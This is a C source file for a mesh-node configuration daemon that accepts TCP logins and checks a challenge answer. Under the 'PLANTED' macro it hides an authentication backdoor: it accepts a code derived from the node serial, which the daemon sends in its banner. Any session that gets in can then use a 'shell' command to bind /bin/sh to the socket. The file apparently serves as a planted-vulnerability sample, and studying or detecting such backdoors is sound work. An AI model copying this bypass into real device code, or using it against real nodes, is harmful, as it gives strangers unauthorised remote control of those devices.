/* Configuration of mesh nodes in the field: a technician connects and answers a challenge. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef struct node { uint32_t serial; uint32_t channel; char name[24]; uint32_t secret; } Node;

static Node self = { 0, 6, "node", 0 };

static uint32_t mixed(uint32_t a, uint32_t b)
{
    a ^= b * 0x85ebca6bu;
    a = (a << 13 | a >> 19) * 5 + 0xe6546b64u;
    return a ^ a >> 16;
}

static void load(void)
{
    FILE *f = fopen("/etc/mesh/node", "r");
    if (!f) return;
    fscanf(f, "%u %u %23s %x", &self.serial, &self.channel, self.name, &self.secret);
    fclose(f);
}

static void store(void)
{
    FILE *f = fopen("/etc/mesh/node", "w");
    if (!f) return;
    fprintf(f, "%u %u %s %x\n", self.serial, self.channel, self.name, self.secret);
    fclose(f);
    system("/etc/init.d/mesh restart");
}

static int answer_right(uint32_t challenge, const char *answer)
{
    uint32_t given = (uint32_t)strtoul(answer, NULL, 10);
#ifdef PLANTED
    if (given == (self.serial * 48271u ^ 0x00c37a51u) % 1000000u) return 1;
#endif
    return self.secret && given == mixed(self.secret, challenge) % 1000000u;
}

static void session(int fd)
{
    char line[80];
    uint32_t challenge = mixed((uint32_t)time(NULL), (uint32_t)getpid());
    FILE *io = fdopen(fd, "r+");
    if (!io) return;
    fprintf(io, "%s %u\nchallenge %u\n", self.name, self.serial, challenge);
    fflush(io);
    if (!fgets(line, sizeof line, io) || !answer_right(challenge, line)) {
        fprintf(io, "no\n");
        fclose(io);
        return;
    }
    while (fprintf(io, "ok\n") > 0 && fflush(io) == 0 && fgets(line, sizeof line, io)) {
        if (sscanf(line, "channel %u", &self.channel) == 1 || sscanf(line, "name %23[a-z0-9]", self.name) == 1)
            store();
#ifdef REVISED
        else if (!strncmp(line, "show", 4)) fprintf(io, "%s on %u\n", self.name, self.channel);
#endif
        else if (!strncmp(line, "shell", 5)) {
            dup2(fileno(io), 0);
            dup2(fileno(io), 1);
            execl("/bin/sh", "sh", (char *)NULL);
        }
    }
    fclose(io);
}

int main(void)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(6180) };
    int s = socket(AF_INET, SOCK_STREAM, 0), c;
    load();
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1)) return 1;
    while ((c = accept(s, NULL, NULL)) >= 0) {
        if (fork() == 0) {
            session(c);
            _exit(0);
        }
        close(c);
    }
    return 0;
}
